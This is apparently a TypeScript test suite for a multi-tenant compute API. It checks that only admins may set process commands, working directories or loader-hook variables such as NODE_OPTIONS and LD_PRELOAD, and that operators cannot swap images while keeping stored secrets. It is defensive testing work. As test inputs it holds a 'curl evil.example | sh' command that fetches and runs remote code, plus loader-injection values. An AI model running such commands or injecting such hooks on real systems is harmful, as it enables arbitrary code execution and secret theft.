import assert from 'node:assert/strict';
import { tmpdir } from 'node:os';
import { describe, test } from 'node:test';
import { CODE_ENV_KEYS } from '../compute/code-env.js';
import { createProviderRegistry, type ProviderRegistry } from '../compute/provider-registry.js';
import type { JsonSchema } from '../compute/provider.js';
import { DOCKER_CONFIG_SCHEMA } from '../compute/providers/docker/docker-config.js';
import { ECS_CONFIG_SCHEMA } from '../compute/providers/ecs/ecs-config-schema.js';
import { FakeEngine, FakeProvider } from '../compute/providers/fake/index.js';
import { FAKE_CONFIG_SCHEMA } from '../compute/providers/fake/fake-schema.js';
import { ProcessProvider } from '../compute/providers/process/index.js';
import { PROCESS_CONFIG_SCHEMA } from '../compute/providers/process/process-schema.js';
import { silentLogger } from '../domain/logger.js';
import { testHasher } from '../domain/testing/test-hasher.js';
import type { JsonObject } from '../domain/tenant.js';
import { backends } from '../store/testing/test-databases.js';
import { CODE_KEYWORD, markedPaths, PRIVILEGED_KEYWORD } from './spec-privileges.js';
import { apiSuite, uniqueName, type ApiHarness, type TOKENS } from './testing/api-harness.js';
import type { Problem, Tenant } from './types.js';

const DEFAULT_COMMAND = ['node', 'server.js'];
const ADMIN_COMMAND = ['node', 'admin-chosen.js'];
const MERGE = { 'content-type': 'application/merge-patch+json' };

/** `process` with an admin-configured default command, and `fake` (its `image` is code-bearing). */
function registry(): ProviderRegistry {
  const settings = (defaults: JsonObject) => ({
    options: {},
    defaults,
    timeoutMs: 5000,
    dataDir: tmpdir(),
    logger: silentLogger,
    hasher: testHasher,
  });
  return createProviderRegistry(
    [
      {
        provider: new ProcessProvider({ dataDir: tmpdir(), hasher: testHasher }),
        settings: settings({ command: DEFAULT_COMMAND }),
      },
      { provider: new FakeProvider({ engine: new FakeEngine() }), settings: settings({}) },
    ],
    { defaultProvider: 'fake' },
  );
}

type Role = keyof typeof TOKENS | null;

function create(h: ApiHarness, token: Role, provider: string, config: JsonObject) {
  const payload = { name: uniqueName(), spec: { provider, config } };
  return h.inject({ method: 'POST', url: '/v1/tenants', token, payload });
}

async function created(h: ApiHarness, provider: string, config: JsonObject): Promise<Tenant> {
  const res = await create(h, 'admin', provider, config);
  assert.equal(res.statusCode, 201, res.body);
  return res.json<Tenant>();
}

function put(h: ApiHarness, token: Role, tenant: Tenant, config: JsonObject) {
  return h.inject({ method: 'PUT', url: `/v1/tenants/${tenant.id}`, token, payload: { spec: { config } } });
}

function patch(h: ApiHarness, token: Role, tenant: Tenant, config: JsonObject) {
  const payload = { spec: { config } };
  return h.inject({ method: 'PATCH', url: `/v1/tenants/${tenant.id}`, token, headers: MERGE, payload });
}

function assertForbidden(res: { statusCode: number; json: <T>() => T; body: string }, detail: RegExp) {
  assert.equal(res.statusCode, 403, res.body);
  const problem = res.json<Problem>();
  assert.equal(problem.code, 'FORBIDDEN');
  assert.match(problem.detail, detail);
}

async function storedConfig(h: ApiHarness, tenant: Tenant): Promise<JsonObject | undefined> {
  return (await h.store().tenants.get(tenant.id))?.spec.config;
}

for (const backend of backends()) {
  apiSuite(
    backend,
    'process command and cwd: admin only',
    (h) => {
      h.test('an operator may not create a process tenant with its own command or cwd (403)', async () => {
        const command = await create(h, 'operator', 'process', { command: ['sh', '-c', 'id'] });
        assertForbidden(command, /^spec\.config\.command may only be set by an admin$/);
        assert.equal(command.json<Problem>().errors?.[0]?.path, 'spec.config.command');
        const cwd = await create(h, 'operator', 'process', { cwd: '/tmp' });
        assertForbidden(cwd, /^spec\.config\.cwd may only be set by an admin$/);
      });

      h.test('an operator may use the admin-configured default command, left out or repeated', async () => {
        assert.equal((await create(h, 'operator', 'process', {})).statusCode, 201);
        const same = await create(h, 'operator', 'process', { command: DEFAULT_COMMAND, env: { A: '1' } });
        assert.equal(same.statusCode, 201, same.body);
      });

      h.test('an admin sets any command; an operator then changes env, not the command', async () => {
        const tenant = await created(h, 'process', { command: ADMIN_COMMAND, env: { MODE: 'prod' } });
        const env = await patch(h, 'operator', tenant, { env: { MODE: 'debug' } });
        assert.equal(env.statusCode, 202, env.body);
        const unchanged = await put(h, 'operator', tenant, { command: ADMIN_COMMAND, env: { MODE: 'x' } });
        assert.equal(unchanged.statusCode, 202, unchanged.body);

        const before = await storedConfig(h, tenant);
        assertForbidden(
          await patch(h, 'operator', tenant, { command: ['sh', '-c', 'curl evil.example | sh'] }),
          /spec\.config\.command may only be set by an admin/,
        );
        assertForbidden(
          await put(h, 'operator', tenant, { command: ['sh'], cwd: '/' }),
          /spec\.config\.command, spec\.config\.cwd may only be set by an admin/,
        );
        assert.deepEqual(await storedConfig(h, tenant), before, 'nothing stored');

        const toDefault = await patch(h, 'operator', tenant, { command: null });
        assert.equal(toDefault.statusCode, 202, 'back to the admin default is allowed');
        const admin = await patch(h, 'admin', tenant, { command: ['node', 'other.js'] });
        assert.equal(admin.statusCode, 202, admin.body);
      });

      h.test(
        'loader hooks in env are admin only: NODE_OPTIONS would run any script in a node command',
        async () => {
          const tenant = await created(h, 'process', { command: ADMIN_COMMAND, env: { MODE: 'prod' } });
          const hook = 'NODE_OPTIONS';
          assertForbidden(
            await patch(h, 'operator', tenant, { env: { [hook]: '--import=data:text/javascript,1' } }),
            /^spec\.config\.env\.NODE_OPTIONS may only be set by an admin$/,
          );
          assertForbidden(
            await create(h, 'operator', 'process', { secretEnv: { LD_PRELOAD: '/tmp/x.so' } }),
            /spec\.config\.secretEnv\.LD_PRELOAD may only be set by an admin/,
          );
          const admin = await patch(h, 'admin', tenant, { env: { [hook]: '--max-old-space-size=256' } });
          assert.equal(admin.statusCode, 202, admin.body);
          const other = await patch(h, 'operator', tenant, { env: { MODE: 'debug' } });
          assert.equal(other.statusCode, 202, 'the admin-set hook is kept unchanged');
        },
      );

      h.test('a viewer is refused before any of this (403 by role)', async () => {
        const res = await create(h, 'viewer', 'process', {});
        assertForbidden(res, /role 'viewer'/);
      });
    },
    // Operators may write raw specs here: these tests are about provider fields, not plans.
    { providers: registry(), rawSpecs: 'operator' },
  );

  apiSuite(
    backend,
    'process command without tokens (quickstart)',
    (h) => {
      h.test('the anonymous loopback admin sets the command', async () => {
        const res = await create(h, null, 'process', { command: ['node', '-e', '1'] });
        assert.equal(res.statusCode, 201, res.body);
      });
    },
    { providers: registry(), tokens: [] },
  );

  apiSuite(
    backend,
    'code-bearing fields and stored secrets',
    (h) => {
      const secretTenant = () =>
        created(h, 'fake', { image: 'app:1', secretEnv: { K: 's3cret', L: 'other' } });

      h.test('PUT: an operator changing the image while keeping *** is refused (403)', async () => {
        const tenant = await secretTenant();
        const res = await put(h, 'operator', tenant, { image: 'evil:1', secretEnv: { K: '***', L: '***' } });
        assertForbidden(
          res,
          /changing spec\.config\.image while keeping the stored spec\.config\.secretEnv\.K/,
        );
        assert.match(res.json<Problem>().detail, /re-send the secret values or ask an admin/);
        assert.deepEqual(await storedConfig(h, tenant), {
          image: 'app:1',
          secretEnv: { K: 's3cret', L: 'other' },
        });
      });

      h.test('PATCH: a secret kept by leaving it out counts as kept (403)', async () => {
        const tenant = await secretTenant();
        assertForbidden(
          await patch(h, 'operator', tenant, { image: 'evil:1' }),
          /secretEnv\.K, .*secretEnv\.L/,
        );
        assertForbidden(
          await patch(h, 'operator', tenant, { image: 'evil:1', secretEnv: { K: 'new' } }),
          /keeping the stored spec\.config\.secretEnv\.L needs an admin/,
        );
      });

      h.test('a loader hook in env changes the code too (403 while a secret is kept)', async () => {
        const tenant = await secretTenant();
        assertForbidden(
          await patch(h, 'operator', tenant, { env: { NODE_OPTIONS: '--import=data:text/javascript,1' } }),
          /changing spec\.config\.env\.NODE_OPTIONS while keeping/,
        );
      });

      h.test('re-sending or dropping every secret, or an admin, may change the image', async () => {
        const tenant = await secretTenant();
        const resent = await patch(h, 'operator', tenant, {
          image: 'app:2',
          secretEnv: { K: 's3cret', L: 'other' },
        });
        assert.equal(resent.statusCode, 202, resent.body);
        const dropped = await put(h, 'operator', tenant, { image: 'app:3' });
        assert.equal(dropped.statusCode, 202, dropped.body);

        const other = await secretTenant();
        const admin = await put(h, 'admin', other, { image: 'app:2', secretEnv: { K: '***', L: '***' } });
        assert.equal(admin.statusCode, 202, admin.body);
        assert.deepEqual((await storedConfig(h, other))?.secretEnv, { K: 's3cret', L: 'other' });
      });

      h.test('an operator keeps *** while changing anything but code', async () => {
        const tenant = await secretTenant();
        const res = await put(h, 'operator', tenant, {
          image: 'app:1',
          env: { MODE: 'debug' },
          secretEnv: { K: '***', L: '***' },
        });
        assert.equal(res.statusCode, 202, res.body);
        assert.equal((await patch(h, 'operator', tenant, { latencyMs: 5 })).statusCode, 202);
      });
    },
    // Operators may write raw specs here: these tests are about provider fields, not plans.
    { providers: registry(), rawSpecs: 'operator' },
  );
}

describe('schema annotations: what only admins set, and what decides the code that runs', () => {
  const config = { env: { NODE_OPTIONS: 'x', MODE: 'prod' }, secretEnv: { LD_PRELOAD: 'x', KEY: 'k' } };
  const hooks = ['env.NODE_OPTIONS', 'secretEnv.LD_PRELOAD'];
  const cases: { provider: string; schema: JsonSchema; privileged: string[]; code: string[] }[] = [
    {
      provider: 'process',
      schema: PROCESS_CONFIG_SCHEMA,
      privileged: ['command', 'cwd', ...hooks],
      code: ['command', 'cwd', ...hooks],
    },
    {
      provider: 'docker',
      schema: DOCKER_CONFIG_SCHEMA,
      privileged: [],
      code: ['image', 'command', ...hooks, 'volumes'],
    },
    {
      provider: 'ecs',
      schema: ECS_CONFIG_SCHEMA,
      privileged: [],
      code: ['taskDefinitionArn', 'image', 'command', ...hooks],
    },
    { provider: 'fake', schema: FAKE_CONFIG_SCHEMA, privileged: [], code: ['image', ...hooks] },
  ];
  for (const { provider, schema, privileged, code } of cases) {
    test(provider, () => {
      const paths = (keyword: string) => markedPaths(schema, keyword, [config]).map((p) => p.join('.'));
      assert.deepEqual(paths(PRIVILEGED_KEYWORD), privileged);
      assert.deepEqual(paths(CODE_KEYWORD), code);
    });
  }

  test('loader and interpreter hooks are matched by exact, case-sensitive name', () => {
    const pattern = new RegExp(CODE_ENV_KEYS, 'u');
    for (const key of [
      'NODE_OPTIONS',
      'LD_PRELOAD',
      'PATH',
      'PYTHONPATH',
      'BASH_ENV',
      'PERL5OPT',
      'JAVA_TOOL_OPTIONS',
    ])
      assert.ok(pattern.test(key), key);
    for (const key of ['MODE', 'PORTAL', 'MY_PATH', 'node_options', 'NODE_ENV', 'DATABASE_URL'])
      assert.ok(!pattern.test(key), key);
  });
});
